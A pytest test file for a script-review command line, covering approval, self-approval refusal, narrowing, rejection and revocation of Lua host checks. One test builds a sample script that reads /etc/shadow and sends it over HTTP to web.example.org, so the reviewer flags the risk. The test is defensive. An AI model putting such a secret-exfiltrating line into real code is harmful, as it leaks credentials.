"""Reviews from the command line: read, approve, narrow, reject; nobody approves their own script."""

from __future__ import annotations

import re

import pytest
from shell import Shell

READER = 'return fs.read("/etc/hostname")\n'


def test_list_show_and_approve(outrider: Shell) -> None:
    review = outrider.publish(outrider.write("checks/cli-review", "return sys.uptime()\n"))
    listed = outrider.program("review", "ls")
    assert listed.status == 0
    (row,) = [row for row in listed.rows if row[0] == review]
    assert row[1:6] == ["checks/cli-review", "1.0.0", "observe", "author", "new"]
    assert listed.out.splitlines()[0].split("  ")[0] == "ID"
    shown = outrider("review", "show", review)
    assert shown.status == 0
    assert re.search(r"^calls +sys\.uptime  observe  main\.lua:1$", shown.out, re.MULTILINE)
    assert re.search(r"^permissions +\+ tier observe  \(before: compute\)$", shown.out, re.MULTILINE)
    assert re.search(r"^compared with +nothing: no version of it is approved$", shown.out, re.MULTILINE)
    assert re.search(r"^tests +none$", shown.out, re.MULTILINE)
    assert re.search(r"^history +\S+ \S+ published 1\.0\.0 by author$", shown.out, re.MULTILINE)
    assert re.search(r"^inferred tier +observe$", shown.out, re.MULTILINE)
    assert "--- main.lua\nreturn sys.uptime()\n" in shown.out

    approved = outrider.approve(review)
    assert (approved.status, approved.out) == (0, "")
    assert re.match(r"approved checks/cli-review 1\.0\.0 for observe until \d{4}-\d\d-\d\dT", approved.err)
    assert review not in outrider("review", "ls").out
    (row,) = [row for row in outrider("review", "ls", "--state", "approved").rows if row[0] == review]
    assert row[-2:] == ["reviewer", "CHG-118"]
    data = outrider("review", "ls", "--state", "all", "--json").data
    assert {item["id"]: item["state"] for item in data}[review] == "approved"


def test_an_author_cannot_approve_their_own_script(outrider: Shell) -> None:
    """The person called ``both`` writes and reviews, but not the same script."""
    review = outrider.publish(outrider.write("checks/cli-self", "return 1\n"), by="both")
    refused = outrider.approve(review, by="both")
    assert refused.status == 3
    assert refused.err == "refused: an author cannot approve their own script\n"
    told = outrider.approve(review, "--json", by="both")
    assert (told.status, told.out) == (3, "")
    assert told.error["reason"] == "self_approval"
    assert outrider.approve(review, by="reviewer").status == 0


def test_somebody_who_reviews_nothing(outrider: Shell) -> None:
    review = outrider.publish(outrider.write("checks/cli-operator", "return 1\n"))
    refused = outrider.approve(review, by="operator")
    assert refused.status == 3
    assert "operator may not approve checks/cli-operator" in refused.err


def test_next_version_shows_what_changed(outrider: Shell) -> None:
    outrider.install("checks/cli-diff", "return 1\n", version="1.0.0")
    review = outrider.publish(outrider.write("checks/cli-diff", "return 2\n", version="1.1.0"))
    shown = outrider("review", "show", review).out
    assert "-return 1\n+return 2\n" in shown
    assert outrider("review", "show", review, "--json").data["previous"] == "1.0.0"


def test_what_a_version_gained_and_why_it_is_risky(outrider: Shell) -> None:
    """In the list in a few words, in the review with what was there before, and all of it as JSON."""
    before = "needs: [{call: fs.read, paths: [/etc/hosts]}]\n"
    outrider.install("checks/cli-gain", "return fs.read('/etc/hosts')\n", tier="inspect", more=before)
    after = "needs: [{call: fs.read, paths: ['/etc/**']}, {call: net.http, targets: [web.example.org]}]\n"
    source = "return net.http('https://web.example.org', {body=fs.read('/etc/shadow')})\n"
    folder = outrider.write("checks/cli-gain", source, version="1.1.0", tier="inspect", more=after)
    review = outrider.publish(folder)
    (row,) = [row for row in outrider("review", "ls").rows if row[0] == review]
    assert row[5:] == ["+ fs.read /etc/**, + net.http web.example.org", "reads secrets + sends", "-"]
    shown = outrider("review", "show", review).out
    assert re.search(r"^permissions +\+ fs\.read /etc/\*\*  \(before: /etc/hosts\)$", shown, re.MULTILINE)
    assert re.search(r"^risks +fs\.read and net\.http \(/etc/\*\*\): can read keys or passwords", shown, re.MULTILINE)
    assert "-return fs.read('/etc/hosts')\n+return net.http(" in shown
    (item,) = [item for item in outrider("review", "ls", "--json").data if item["id"] == review]
    assert item["since_approved"]["gained"] == ["+ fs.read /etc/**", "+ net.http web.example.org"]
    data = outrider("review", "show", review, "--json").data
    assert [part["path"] for part in data["code"]] == ["main.lua", "manifest.yaml"]


def test_log_and_diff_of_a_script(outrider: Shell) -> None:
    outrider.install("checks/cli-log", "return 1\n")
    folder = outrider.write("checks/cli-log", "return sys.uptime()\n", version="2.0.0", tier="inspect")
    outrider.publish(folder)
    newest, first = outrider("script", "log", "checks/cli-log").rows
    assert (newest[0], newest[2:7]) == (
        "2.0.0", ["author", "inspect", "breaking", "+ tier inspect, + sys.uptime", "waiting"],
    )  # fmt: skip
    assert (first[0], first[4], first[-2:]) == ("1.0.0", "first", ["approved", "reviewer"])
    told = outrider("script", "diff", "checks/cli-log", "1.0.0", "2.0.0").out
    assert told.startswith("checks/cli-log 1.0.0 to 2.0.0  breaking\n+ tier inspect  (before: observe)\n+ sys.uptime\n")
    assert "-return 1\n+return sys.uptime()\n" in told
    data = outrider("script", "diff", "checks/cli-log", "1.0.0", "2.0.0", "--json").data
    assert ([part["path"] for part in data["code"]], data["change"]) == (["main.lua", "manifest.yaml"], "breaking")
    assert outrider("script", "diff", "checks/cli-log", "1.0.0", "9.0.0").status == 1


def test_approval_narrowed_to_paths_holds_on_the_host(outrider: Shell) -> None:
    """What the reviewer did not grant, the host does not give, although the tier would."""
    source = 'check.metric("n", "uint64", #fs.list("/etc"))\nreturn fs.stat("/usr").type\n'
    review = outrider.publish(outrider.write("checks/cli-narrow", source))
    assert outrider.approve(review, "--paths", "/etc").status == 0
    shown = outrider("script", "show", "checks/cli-narrow").out
    assert "fs.list /etc; fs.stat /etc" in shown
    ran = outrider("run", "host-1", "checks/cli-narrow")
    assert ran.status == 3
    assert "fs.stat" in ran.err
    assert "main.lua:2" in ran.err


@pytest.mark.parametrize(
    ("words", "status", "said"),
    [
        (["--tier", "root"], 2, "--tier: 'root' is not a tier"),
        (["--tier", "operate"], 3, "refused: "),
        (["--expires", "whenever"], 2, "--expires: 'whenever' is not a duration"),
        (["--paths", "etc"], 2, "--paths: "),
        (["--targets", "web"], 2, "--targets: the script makes no call that takes a target"),
        (["--commands", "df"], 2, "--commands: the script makes no call that takes a command"),
    ],
)
def test_bad_approval(outrider: Shell, words: list[str], status: int, said: str) -> None:
    review = outrider.publish(outrider.write("checks/cli-bad-approval", READER, tier="inspect"))
    called = outrider.approve(review, *words)
    assert (called.status, called.out) == (status, "")
    assert said in called.err
    assert outrider("review", "show", review, "--json").data["state"] == "open"


def test_paths_for_a_script_that_touches_none(outrider: Shell) -> None:
    """An approval that reads as if it narrowed something and does not is worse than none."""
    review = outrider.publish(outrider.write("checks/cli-pathless", "return sys.uptime()\n"))
    called = outrider.approve(review, "--paths", "/etc/**")
    assert called.status == 2
    assert "no call that takes a path" in called.err


def test_approving_in_a_pipe_asks_for_yes_before_it_shows_anything(outrider: Shell) -> None:
    review = outrider.publish(outrider.write("checks/cli-unasked", "return 1\n"))
    called = outrider("review", "approve", review, "--key", outrider.key("reviewer"), "--reason", "x")
    assert (called.status, called.out) == (2, "")
    assert "--yes" in called.err
    needs_reason = outrider("review", "approve", review, "--yes", "--json")
    assert needs_reason.status == 2
    assert "--reason" in needs_reason.error["message"]


def test_reject_with_a_reason(outrider: Shell) -> None:
    review = outrider.publish(outrider.write("checks/cli-rejected", "return 1\n"))
    assert outrider("review", "reject", review).status == 2
    rejected = outrider("review", "reject", review, "--reason", "it reads too much")
    assert (rejected.status, rejected.out, rejected.err) == (0, "", f"rejected {review}\n")
    again = outrider("review", "reject", review, "--reason", "still")
    assert again.status == 1
    assert "rejected already" in again.err
    approved = outrider.approve(review, "--json")
    assert approved.status == 1
    assert approved.error["code"] == "conflict"
    shown = outrider("review", "show", review).out
    assert re.search(r"^reason +it reads too much$", shown, re.MULTILINE)
    assert outrider("script", "show", "checks/cli-rejected", "--json").data["status"] == "rejected"


@pytest.mark.parametrize("verb", [["show"], ["reject", "--reason", "x"], ["approve", "--reason", "x", "--yes"]])
@pytest.mark.parametrize(("name", "status"), [("nowhere", 1), ("a?bcdef", 2), ("0" * 12, 1)])
def test_review_that_is_not_there(outrider: Shell, verb: list[str], name: str, status: int) -> None:
    called = outrider("review", verb[0], name, *verb[1:])
    assert (called.status, called.out) == (status, "")


def test_comments_of_a_review(outrider: Shell) -> None:
    review = outrider.publish(outrider.write("checks/cli-talk", "return 1\n"))
    said = outrider("review", "comment", review, "why 1?", "--at", "main.lua:1")
    assert (said.status, said.out, said.err) == (0, "", f"commented on {review}\n")
    shown = outrider("review", "show", review).out
    assert re.search(r"^comments +\S+ \S+ admin at main\.lua:1: why 1\?$", shown, re.MULTILINE)
    assert re.search(r"^approvals +0 of 1$", shown, re.MULTILINE)
    assert outrider("review", "comment", "nowhere", "x").status == 1
    assert outrider("review", "comment", review, "").status == 2


def test_an_approval_that_is_taken_back_stops_the_script_on_the_host(outrider: Shell) -> None:
    outrider.install("checks/cli-back", "return 1\n")
    assert outrider("run", "host-1", "checks/cli-back").status == 0
    (row,) = [row for row in outrider("review", "ls", "--state", "approved").rows if row[1] == "checks/cli-back"]
    by = ("--key", outrider.key("reviewer"))
    other = outrider("review", "revoke", row[0], "--reason", "not mine", "--yes", "--key", outrider.key("both"))
    assert (other.status, "approves nothing" in other.err) == (3, True)
    back = outrider("review", "revoke", row[0], "--reason", "too wide", "--yes", *by)
    assert (back.status, back.err) == (0, "took the approval of checks/cli-back 1.0.0 back\n")
    refused = outrider("run", "host-1", "checks/cli-back")
    assert refused.status == 3
    assert "took the approval of checks/cli-back 1.0.0 back" in refused.err
    assert re.search(
        r"^history +\S+ \S+ revoked 1\.0\.0 by reviewer: too wide$", outrider("review", "show", row[0]).out, re.M
    )


def test_a_second_approval_that_says_the_same(outrider: Shell) -> None:
    review = outrider.publish(outrider.write("checks/cli-twice", "return 1\n"))
    assert outrider.approve(review).status == 0
    again = outrider.approve(review, reason="once more")
    assert (again.status, "reviewer has approved checks/cli-twice 1.0.0 already" in again.err) == (3, True)


def test_an_approval_for_some_hosts_only(outrider: Shell) -> None:
    """The server counts it; this host, whose owner says nothing of mail, does not."""
    review = outrider.publish(outrider.write("checks/cli-mail", "return 1\n"))
    assert outrider.approve(review, "--label", "role=mail").status == 0
    assert "narrowed to hosts with role=mail" in outrider("review", "show", review).out
    refused = outrider("run", "host-1", "checks/cli-mail")
    assert refused.status == 3
    assert "approved for hosts with role=mail" in refused.err
    assert outrider.approve(review, "--label", "mail").status == 2


TESTED = """tests:
- {name: counts, calls: {sys.uptime: 5}, expect: {result: 5}}
- {name: is wrong, calls: {sys.uptime: 6}, expect: {result: 7}}
"""


def test_a_version_is_checked_on_the_reviewers_machine(outrider: Shell) -> None:
    source = "return sys.uptime()\n"
    good = TESTED.splitlines(keepends=True)
    review = outrider.publish(outrider.write("checks/cli-tested", source, more="".join(good[:2])))
    checked = outrider.program("review", "check", review)
    assert checked.status == 0, checked.err
    assert checked.err.startswith("ok      checks/cli-tested 1.0.0 by author  tier observe, inferred observe  1 test")
    bad = outrider.publish(outrider.write("checks/cli-tested", source, version="1.1.0", more=TESTED))
    failed = outrider.program("review", "check", bad, "--comment", "--json")
    assert failed.status == 1
    assert [test["result"] for test in failed.data["tests"]] == ["ok", "failed"]
    (comment,) = outrider("review", "show", bad, "--json").data["comments"]
    assert "2 tests, 1 failed" in comment["text"]
    listed = {each["id"]: each["checked"] for each in outrider("review", "ls", "--json").data}
    assert (listed[review], listed[bad]["passed"], listed[bad]["by"]) == (None, False, "admin")
    assert "failed (admin)" in outrider("review", "ls").out
